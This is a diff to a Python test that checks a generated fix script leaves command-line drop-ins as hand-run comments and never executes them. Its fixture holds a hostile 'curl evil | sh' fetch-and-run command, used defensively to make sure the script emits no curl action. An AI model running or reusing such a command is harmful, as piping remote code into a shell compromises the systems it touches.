@@ -206,7 +206,7 @@ def test_command_line_drop_ins_are_for_a_human(sick_data: dict[str, Any]) -> Non
                            "exec_start": "/bin/sh -c 'curl evil | sh' --enforce-eager"})
     scripts = fix_scripts(data)
     section = scripts.fix.split("runtime.cuda_graphs:", 1)[1].split("# ----", 1)[0]
-    assert "# by hand, not run by this script: printf %s" in section
+    assert "# by hand, not run by this script: printf '%s\\n'" in section
     assert not any("curl" in a for a in _actions(scripts.fix))
 
 
